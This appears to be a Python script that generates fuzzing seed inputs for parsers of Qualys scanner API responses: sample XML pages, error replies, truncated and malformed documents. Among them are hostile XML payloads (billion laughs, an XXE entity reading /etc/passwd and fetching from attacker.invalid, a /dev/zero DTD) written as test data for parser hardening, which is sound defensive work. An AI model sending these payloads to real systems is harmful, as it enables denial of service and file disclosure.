#!/usr/bin/env python3
"""Writes the hand-made seed inputs in fuzz/seeds/<target>/.

These complement the test fixtures (tests/fixtures/, copied in by scripts/fuzz
at run time) with the hostile shapes a fuzzer is slow to invent: truncated
documents, billion laughs, deep nesting, HTML error pages, DOCTYPEs with
external entities, numbers that overflow. Re-run after editing; the output is
committed. Reproducers of fixed fuzz findings go next to these by hand
(fuzz/seeds/<target>/regress-*) and are never overwritten.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'

HOST_PAGE = XML_DECL + """<ServiceResponse xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="https://qualysapi.qualys.com/qps/xsd/2.0/am/hostasset.xsd">
  <responseCode>SUCCESS</responseCode>
  <count>2</count>
  <hasMoreRecords>true</hasMoreRecords>
  <lastId>18446744073709551615</lastId>
  <data>
    <HostAsset>
      <id>2837402</id>
      <name>vm-web-01 &amp; co</name>
      <modified>2021-02-19T18:13:41Z</modified>
      <sourceInfo>
        <list>
          <AssetSource/>
          <AzureAssetSourceSimple>
            <assetId>2837402</assetId>
            <type>AZURE</type>
            <vmId>6f0c9a4e-aaaa-bbbb-cccc-0123456789ab</vmId>
            <location>westeurope</location>
            <subscriptionId>00000000-1111-2222-3333-444444444444</subscriptionId>
            <resourceGroupName>rg-web</resourceGroupName>
            <virtualNetwork>vnet-prod</virtualNetwork>
            <subnet>default</subnet>
            <state>RUNNING</state>
          </AzureAssetSourceSimple>
          <UnknownFutureSourceSimple><x>1</x></UnknownFutureSourceSimple>
        </list>
      </sourceInfo>
      <vuln>
        <list>
          <HostAssetVuln><qid>38173</qid><hostInstanceVulnId>9007199254740993</hostInstanceVulnId><firstFound>2020-01-01T00:00:00Z</firstFound></HostAssetVuln>
          <HostAssetVuln><qid>150141</qid><hostInstanceVulnId>1</hostInstanceVulnId></HostAssetVuln>
        </list>
      </vuln>
    </HostAsset>
    <HostAsset>
      <id>2837403</id>
      <name><![CDATA[ec2 <host>]]></name>
      <sourceInfo><list>
        <Ec2AssetSourceSimple><type>EC_2</type><instanceState>RUNNING</instanceState></Ec2AssetSourceSimple>
        <GcpAssetSourceSimple><type>GCP</type></GcpAssetSourceSimple>
      </list></sourceInfo>
      <vuln><list/></vuln>
    </HostAsset>
  </data>
</ServiceResponse>
"""

HOST_EMPTY_MORE = XML_DECL + """<ServiceResponse>
  <responseCode>SUCCESS</responseCode>
  <count>0</count>
  <hasMoreRecords>true</hasMoreRecords>
  <lastId>2837500</lastId>
</ServiceResponse>
"""

QPS_ERROR = XML_DECL + """<ServiceResponse>
  <responseCode>INVALID_REQUEST</responseCode>
  <responseErrorDetails>
    <errorMessage>Criteria field 'foo' is not supported &lt;here&gt;</errorMessage>
    <errorResolution>Use a supported field.</errorResolution>
  </responseErrorDetails>
</ServiceResponse>
"""

HOST_NUMBERS = XML_DECL + """<ServiceResponse><responseCode>SUCCESS</responseCode>
<count>-1</count><hasMoreRecords>TRUE</hasMoreRecords><lastId>18446744073709551616</lastId>
<data><HostAsset><id> 12 </id><vuln><list><HostAssetVuln><qid>1e3</qid><hostInstanceVulnId>0x10</hostInstanceVulnId></HostAssetVuln>
<HostAssetVuln><qid></qid><hostInstanceVulnId>-5</hostInstanceVulnId></HostAssetVuln></list></vuln></HostAsset>
<HostAsset><id>99999999999999999999999</id><HostAsset><id>1</id></HostAsset></HostAsset></data></ServiceResponse>
"""

KEYWORD_TEXT = """Regex: (?i)password
List of internal links matching with this regex are:
https://app.example.com/login
https://app.example.com/account/reset?token=abc&next=/very/long/path/that/was/
wrapped/across/lines
https://app.example.com/login
seen at following parent(s)
https://app.example.com/
https://app.example.com/help

Regex: secret[_-]?key
No internal link found matching with this regex.

Regex: internal
List of internal links matching with this regex are:
"""

WAS_PAGE = XML_DECL + """<ServiceResponse xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <responseCode>SUCCESS</responseCode>
  <count>3</count>
  <hasMoreRecords>false</hasMoreRecords>
  <data>
    <Finding>
      <id>7154021</id>
      <uniqueId>8a3c1b2e-0000-4000-8000-000000000001</uniqueId>
      <qid>150003</qid>
      <name>Cross-Site Scripting Vulnerability</name>
      <type>VULNERABILITY</type>
      <potential>false</potential>
      <findingType>QUALYS</findingType>
      <severity>5</severity>
      <cvssV3><base>7.5</base><temporal>6.9</temporal><attackVector>Network</attackVector></cvssV3>
      <url>https://app.example.com/search?q=1</url>
      <status>REOPENED</status>
      <firstDetectedDate>2020-05-01T10:00:00Z</firstDetectedDate>
      <lastDetectedDate>2021-02-19T18:13:41Z</lastDetectedDate>
      <lastTestedDate>2021-02-19T18:13:41Z</lastTestedDate>
      <updatedDate>2021-02-20T00:00:00Z</updatedDate>
      <timesDetected>4</timesDetected>
      <webApp><id>9001</id><name>Shop &quot;prod&quot;</name><url>https://app.example.com/</url></webApp>
      <isIgnored>false</isIgnored>
      <history><set>
        <WebAppFindingHistory><scanData><id>41</id><reference>was/1600000000.41</reference><launchedDate>2021-01-01T00:00:00Z</launchedDate></scanData></WebAppFindingHistory>
        <WebAppFindingHistory><scanData><id>42</id><reference>was/1600000000.42</reference><launchedDate>2021-02-19T18:00:00Z</launchedDate></scanData></WebAppFindingHistory>
        <WebAppFindingHistory><scanData><id>42</id></scanData></WebAppFindingHistory>
      </set></history>
    </Finding>
    <Finding>
      <id>7154022</id>
      <uniqueId>8a3c1b2e-0000-4000-8000-000000000002</uniqueId>
      <qid>150141</qid>
      <name>Keywords URL Search</name>
      <type>INFORMATION_GATHERED</type>
      <severity>1</severity>
      <webApp><id>9001</id></webApp>
      <resultList><list><Result>
        <payloads><list><PayloadInstance>
          <payload>N/A</payload>
          <request><method>GET</method><link>https://app.example.com/</link></request>
          <response>""" + KEYWORD_TEXT.replace("&", "&amp;") + """</response>
        </PayloadInstance>
        <PayloadInstance><response><![CDATA[Regex: a
No internal link found matching with this regex.
]]></response></PayloadInstance></list></payloads>
      </Result></list></resultList>
    </Finding>
    <Finding>
      <id>7154023</id>
      <uniqueId>8a3c1b2e-0000-4000-8000-000000000003</uniqueId>
      <qid>150120</qid>
      <type>SENSITIVE_CONTENT</type>
      <severity>9</severity>
      <status>FIXED</status>
      <timesDetected>-3</timesDetected>
      <webApp><id>18446744073709551616</id></webApp>
      <history/>
    </Finding>
  </data>
</ServiceResponse>
"""

HOST_DETECTION = XML_DECL + """<!DOCTYPE HOST_LIST_VM_DETECTION_OUTPUT SYSTEM "https://qualysapi.qualys.com/api/2.0/fo/asset/host/vm/detection/host_list_vm_detection_output.dtd">
<!-- This report was generated with an evaluation version of Qualys //-->
<HOST_LIST_VM_DETECTION_OUTPUT>
  <RESPONSE>
    <DATETIME>2024-03-08T20:20:01Z</DATETIME>
    <HOST_LIST>
      <HOST>
        <ID>18446744073709551615</ID>
        <ASSET_ID>84047683</ASSET_ID>
        <IP>10.50.2.111</IP>
        <TRACKING_METHOD>QAGENT</TRACKING_METHOD>
        <OS><![CDATA[Windows 2016/2019/10]]></OS>
        <LAST_VM_SCANNED_DATE>2023-07-03T06:23:47Z</LAST_VM_SCANNED_DATE>
        <DETECTION_LIST>
          <DETECTION>
            <UNIQUE_VULN_ID>5555555555</UNIQUE_VULN_ID>
            <QID>38173</QID>
            <TYPE>Confirmed</TYPE>
            <SEVERITY>2</SEVERITY>
            <PORT>443</PORT>
            <PROTOCOL>tcp</PROTOCOL>
            <SSL>1</SSL>
            <RESULTS><![CDATA[Certificate #0 <b>]]]]><![CDATA[></b>]]></RESULTS>
            <STATUS>Re-Opened</STATUS>
            <QDS severity="LOW">35</QDS>
            <LAST_UPDATE_DATETIME>2024-03-08T20:15:41Z</LAST_UPDATE_DATETIME>
            <IS_IGNORED>0</IS_IGNORED>
            <IS_DISABLED>1</IS_DISABLED>
          </DETECTION>
          <DETECTION><QID>45017</QID><TYPE>Info</TYPE><STATUS>Fixed</STATUS></DETECTION>
          <DETECTION><QID>1</QID><TYPE>Potential</TYPE><SEVERITY>9</SEVERITY><STATUS>New</STATUS><FQDN>a</FQDN><INSTANCE>b</INSTANCE></DETECTION>
        </DETECTION_LIST>
      </HOST>
      <HOST><ID>2</ID><DETECTION_LIST/></HOST>
    </HOST_LIST>
    <WARNING>
      <CODE>1980</CODE>
      <TEXT>2 record limit exceeded. Use URL to get next batch of results.</TEXT>
      <URL><![CDATA[https://qualysapi.qualys.com/api/2.0/fo/asset/host/vm/detection/?action=list&truncation_limit=2&id_min=3]]></URL>
    </WARNING>
  </RESPONSE>
</HOST_LIST_VM_DETECTION_OUTPUT>
"""

HOST_DETECTION_NUMBERS = XML_DECL + """<HOST_LIST_VM_DETECTION_OUTPUT><RESPONSE><HOST_LIST>
<HOST><ID> 12 </ID><DETECTION_LIST><DETECTION><QID>1e3</QID><PORT>65536</PORT><SSL>2</SSL><IS_IGNORED>true</IS_IGNORED></DETECTION></DETECTION_LIST></HOST>
<HOST><ID>18446744073709551616</ID><HOST><ID>1</ID></HOST></HOST>
<HOST><DETECTION_LIST><DETECTION><QID>5</QID></DETECTION></DETECTION_LIST></HOST>
</HOST_LIST><CODE>1905</CODE></RESPONSE></HOST_LIST_VM_DETECTION_OUTPUT>
"""

HOST_DETECTION_EMPTY = XML_DECL + """<!DOCTYPE HOST_LIST_VM_DETECTION_OUTPUT SYSTEM "https://qualysapi.qualys.com/api/2.0/fo/asset/host/vm/detection/host_list_vm_detection_output.dtd">
<HOST_LIST_VM_DETECTION_OUTPUT><RESPONSE><DATETIME>2020-09-27T01:29:21Z</DATETIME></RESPONSE></HOST_LIST_VM_DETECTION_OUTPUT>
<!-- trailing comment //-->
"""

SCHEDULE_PAGE = XML_DECL + """<ServiceResponse xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="https://qualysapi.qualys.com/qps/xsd/3.0/was/wasscanschedule.xsd">
  <responseCode>SUCCESS</responseCode>
  <count>3</count>
  <hasMoreRecords>true</hasMoreRecords>
  <lastId>807150</lastId>
  <data>
    <WasScanSchedule>
      <id>714393</id>
      <name><![CDATA[Create Schedule & <more>]]></name>
      <type>VULNERABILITY</type>
      <active>true</active>
      <nextLaunchDate>2021-04-10T16:50:11Z</nextLaunchDate>
      <scheduling><startDate>2021-03-25T09:50:11Z</startDate><timeZone><code>America/Vancouver</code><offset>-07:00</offset></timeZone><occurrenceType>WEEKLY</occurrenceType></scheduling>
      <target><webApp><id>4830580</id></webApp></target>
      <sendMail>true</sendMail>
      <sendMailFromAddressOption>OWNER</sendMailFromAddressOption>
    </WasScanSchedule>
    <WasScanSchedule>
      <id>807146</id>
      <type>DISCOVERY</type>
      <active>false</active>
      <target>
        <webApps><count>2</count><set><WebApp><id>1</id></WebApp><WebApp><id>2</id></WebApp></set></webApps>
        <tags>
          <included><option>ALL</option><tagList><set><Tag><id>68447639</id></Tag><Tag><id>68448550</id></Tag></set></tagList></included>
          <excluded><option>ANY</option><tagList><list><Tag><id>68449461</id></Tag></list></tagList></excluded>
        </tags>
      </target>
      <sendMail>false</sendMail>
      <sendMailFromAddressOption>OWNER</sendMailFromAddressOption>
    </WasScanSchedule>
    <WasScanSchedule><id>807150</id><sendMail/></WasScanSchedule>
  </data>
</ServiceResponse>
"""

WEBAPP_PAGE = XML_DECL + """<ServiceResponse>
  <responseCode>SUCCESS</responseCode>
  <count>2</count>
  <hasMoreRecords>false</hasMoreRecords>
  <data>
    <WebApp><id>238483924</id><name><![CDATA[http://rest.vulnweb.com/]]></name><tags><count>0</count></tags></WebApp>
    <WebApp><id>238483925</id><url><![CDATA[https://shop.example.com/?a=1&b=2]]></url>
      <tags><count>2</count><list><Tag><id>68447639</id><name>PCI</name></Tag><Tag><id>18446744073709551616</id></Tag></list></tags></WebApp>
  </data>
</ServiceResponse>
"""

KB = XML_DECL + """<!DOCTYPE KNOWLEDGE_BASE_VULN_LIST_OUTPUT SYSTEM "https://qualysapi.qualys.com/api/2.0/fo/knowledge_base/vuln/knowledge_base_vuln_list_output.dtd">
<KNOWLEDGE_BASE_VULN_LIST_OUTPUT>
  <RESPONSE>
    <DATETIME>2021-02-19T18:13:41Z</DATETIME>
    <VULN_LIST>
      <VULN>
        <QID>38173</QID>
        <VULN_TYPE>Vulnerability</VULN_TYPE>
        <SEVERITY_LEVEL>2</SEVERITY_LEVEL>
        <TITLE><![CDATA[SSL Certificate - Signature Verification Failed Vulnerability]]></TITLE>
        <CATEGORY>General remote services</CATEGORY>
        <LAST_SERVICE_MODIFICATION_DATETIME>2020-06-24T12:13:51Z</LAST_SERVICE_MODIFICATION_DATETIME>
        <PUBLISHED_DATETIME>2004-03-05T00:00:00Z</PUBLISHED_DATETIME>
        <PATCHABLE>0</PATCHABLE>
        <DIAGNOSIS><![CDATA[<p>An SSL Certificate associates an entity ...</p>]]></DIAGNOSIS>
      </VULN>
      <VULN>
        <QID>150141</QID>
        <SEVERITY_LEVEL>1</SEVERITY_LEVEL>
        <TITLE>Keywords URL Search &amp; more</TITLE>
      </VULN>
      <VULN><QID>18446744073709551616</QID><SEVERITY_LEVEL>7</SEVERITY_LEVEL></VULN>
      <VULN><SEVERITY_LEVEL>3</SEVERITY_LEVEL></VULN>
    </VULN_LIST>
  </RESPONSE>
</KNOWLEDGE_BASE_VULN_LIST_OUTPUT>
"""

SIMPLE_RETURN_TMPL = XML_DECL + """<!DOCTYPE SIMPLE_RETURN SYSTEM "https://qualysapi.qualys.com/api/2.0/simple_return.dtd">
<SIMPLE_RETURN>
  <RESPONSE>
    <DATETIME>2021-02-19T18:13:41Z</DATETIME>
    <CODE>{code}</CODE>
    <TEXT>{text}</TEXT>
    <ITEM_LIST><ITEM><KEY>CALLS_TO_WAIT</KEY><VALUE>30</VALUE></ITEM></ITEM_LIST>
  </RESPONSE>
</SIMPLE_RETURN>
"""
SR_RATE = SIMPLE_RETURN_TMPL.format(
    code="1965",
    text="This API cannot be run again for another 30 seconds. Please try again later.")
SR_CONC = SIMPLE_RETURN_TMPL.format(code="1960",
                                    text="Concurrency limit of 2 reached &amp; exceeded")
SR_OK = XML_DECL + """<SIMPLE_RETURN><RESPONSE><DATETIME>2021-02-19T18:13:41Z</DATETIME>
<TEXT>Scan launched</TEXT></RESPONSE></SIMPLE_RETURN>
"""
SR_AUTH = XML_DECL + """<SIMPLE_RETURN><RESPONSE><CODE>2003</CODE><TEXT>Registration must be completed before API requests will be served for this account</TEXT></RESPONSE></SIMPLE_RETURN>"""

HTML_ERROR = """<!DOCTYPE html>
<html><head><title>414 Request-URI Too Large</title></head>
<body><center><h1>414 Request-URI Too Large</h1></center>
<hr><center>nginx</center>
<br>unclosed <p>tags &nbsp; &copy; everywhere
</body></html>
"""

BILLION_LAUGHS = XML_DECL + """<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<{root}>{inner}</{root}>
"""

XXE = XML_DECL + """<!DOCTYPE {root} [
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
 <!ENTITY remote SYSTEM "https://attacker.invalid/x.xml">
 <!ENTITY % param SYSTEM "https://attacker.invalid/param.dtd">
 %param;
]>
<{root}>{inner}</{root}>
"""

XXE_SYSTEM_DTD = XML_DECL + """<!DOCTYPE {root} SYSTEM "file:///dev/zero">
<{root}>{inner}</{root}>
"""


def deep(depth, leaf, root=None):
    open_tags = "".join("<a>" for _ in range(depth))
    close_tags = "".join("</a>" for _ in range(depth))
    body = open_tags + leaf + close_tags
    return XML_DECL + (f"<{root}>{body}</{root}>" if root else body) + "\n"


# Per target: (root element, inner markup using an entity in a text field).
ROOTS = {
    "host_asset": ("ServiceResponse",
                   "<responseCode>SUCCESS</responseCode><data><HostAsset><id>1</id>"
                   "<name>{ent}</name></HostAsset></data>"),
    "was_finding": ("ServiceResponse",
                    "<responseCode>SUCCESS</responseCode><data><Finding><id>1</id>"
                    "<qid>150141</qid><name>{ent}</name><resultList><list><Result><payloads><list>"
                    "<PayloadInstance><response>Regex: x\nList of internal links matching with "
                    "this regex are:\n{ent}\n</response></PayloadInstance></list></payloads>"
                    "</Result></list></resultList></Finding></data>"),
    "knowledge_base": ("KNOWLEDGE_BASE_VULN_LIST_OUTPUT",
                       "<RESPONSE><VULN_LIST><VULN><QID>1</QID><SEVERITY_LEVEL>3</SEVERITY_LEVEL>"
                       "<TITLE>{ent}</TITLE></VULN></VULN_LIST></RESPONSE>"),
    "simple_return": ("SIMPLE_RETURN", "<RESPONSE><CODE>1965</CODE><TEXT>{ent}</TEXT></RESPONSE>"),
    "host_detection": ("HOST_LIST_VM_DETECTION_OUTPUT",
                       "<RESPONSE><HOST_LIST><HOST><ID>1</ID><IP>{ent}</IP><DETECTION_LIST>"
                       "<DETECTION><QID>1</QID><STATUS>{ent}</STATUS></DETECTION>"
                       "</DETECTION_LIST></HOST></HOST_LIST></RESPONSE>"),
    "was_schedule": ("ServiceResponse",
                     "<responseCode>SUCCESS</responseCode><data><WasScanSchedule><id>1</id>"
                     "<name>{ent}</name></WasScanSchedule><WebApp><id>2</id><name>{ent}</name>"
                     "</WebApp></data>"),
}


def hostile(target):
    root, inner = ROOTS[target]
    return {
        "billion-laughs.xml": BILLION_LAUGHS.format(root=root, inner=inner.format(ent="&lol9;")),
        "xxe-file-entity.xml": XXE.format(root=root, inner=inner.format(ent="&xxe;&remote;")),
        "doctype-system-dev-zero.xml": XXE_SYSTEM_DTD.format(root=root, inner=inner.format(ent="x")),
        "deep-nesting.xml": deep(10000, "x", root=root),
        "deep-nesting-inside-record.xml": deep(3000, "", root=None).replace(
            "<a></a>", inner.format(ent="y"), 1),
        "html-error.html": HTML_ERROR,
        "empty.xml": "",
        "undefined-entity.xml": f"<{root}>{inner.format(ent='&undefined;')}</{root}>",
        "not-utf8.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<' + root + '>\xff\xfe\x00</' + root + '>',
        "mismatched.xml": f"<{root}><a><b></a></b></{root}>",
    }


def truncations(name, doc, cuts=(0.1, 0.33, 0.5, 0.8, 0.97)):
    return {f"truncated-{int(c * 100):02d}-{name}": doc[: int(len(doc) * c)] for c in cuts}


def seeds():
    out = {}
    t = out["host_asset"] = {
        "page.xml": HOST_PAGE,
        "empty-page-more-records.xml": HOST_EMPTY_MORE,
        "error-invalid-request.xml": QPS_ERROR,
        "odd-numbers.xml": HOST_NUMBERS,
        "simple-return-409.xml": SR_RATE,
    }
    t.update(truncations("page.xml", HOST_PAGE))
    t.update(hostile("host_asset"))

    t = out["was_finding"] = {
        "page-verbose.xml": WAS_PAGE,
        "error-invalid-request.xml": QPS_ERROR,
        "empty-page-more-records.xml": HOST_EMPTY_MORE,
        "simple-return-409.xml": SR_CONC,
    }
    t.update(truncations("page-verbose.xml", WAS_PAGE))
    t.update(hostile("was_finding"))

    out["keyword_payload"] = {
        "payload.txt": KEYWORD_TEXT,
        "payload-crlf.txt": KEYWORD_TEXT.replace("\n", "\r\n"),
        "no-link.txt": "Regex: abc\nNo internal link found matching with this regex.\n",
        "regex-at-end.txt": "Regex: ",
        "list-header-only.txt": "List of internal links matching with this regex are:\n",
        "parents-without-links.txt": ("Regex: x\nList of internal links matching with this regex are:\n"
                                      "seen at following parent(s)\n\n\n"),
        "duplicates.txt": ("Regex: dup\nList of internal links matching with this regex are:\n"
                           + "https://a.example/x\n" * 5 + "Regex: dup\nList of internal links "
                           "matching with this regex are:\nhttps://a.example/x\n"),
        "wrapped-long.txt": ("Regex: w\nList of internal links matching with this regex are:\n"
                             + "https://a.example/" + "/".join("seg%d" % i for i in range(400)) + "\n"),
        "empty.txt": "",
        "nul-bytes.txt": "Regex: \x00\nList of internal links matching with this regex are:\n\x00\n",
    }
    out["keyword_payload"].update(truncations("payload.txt", KEYWORD_TEXT))

    t = out["knowledge_base"] = {
        "vuln-list.xml": KB,
        "simple-return-http200.xml": SR_AUTH,
        "simple-return-409.xml": SR_RATE,
    }
    t.update(truncations("vuln-list.xml", KB))
    t.update(hostile("knowledge_base"))

    t = out["simple_return"] = {
        "rate-limit-1965.xml": SR_RATE,
        "concurrency-1960.xml": SR_CONC,
        "no-code.xml": SR_OK,
        "auth-2003.xml": SR_AUTH,
        "not-simple-return.xml": QPS_ERROR,
        "kb-output.xml": KB,
    }
    t.update(truncations("rate-limit-1965.xml", SR_RATE))
    t.update(hostile("simple_return"))

    t = out["host_detection"] = {
        "page.xml": HOST_DETECTION,
        "odd-numbers.xml": HOST_DETECTION_NUMBERS,
        "no-hosts.xml": HOST_DETECTION_EMPTY,
        "simple-return-http200.xml": SR_AUTH,
        "simple-return-409.xml": SR_RATE,
    }
    t.update(truncations("page.xml", HOST_DETECTION))
    t.update(hostile("host_detection"))

    t = out["was_schedule"] = {
        "schedules.xml": SCHEDULE_PAGE,
        "webapps.xml": WEBAPP_PAGE,
        "error-invalid-request.xml": QPS_ERROR,
        "empty-page-more-records.xml": HOST_EMPTY_MORE,
        "simple-return-409.xml": SR_CONC,
    }
    t.update(truncations("schedules.xml", SCHEDULE_PAGE))
    t.update(hostile("was_schedule"))
    return out


def main():
    for target, files in seeds().items():
        d = os.path.join(HERE, target)
        os.makedirs(d, exist_ok=True)
        for name in os.listdir(d):
            if not name.startswith("regress-"):
                os.unlink(os.path.join(d, name))
        for name, text in files.items():
            data = text.encode("latin-1") if name == "not-utf8.xml" else text.encode("utf-8")
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)


if __name__ == "__main__":
    main()
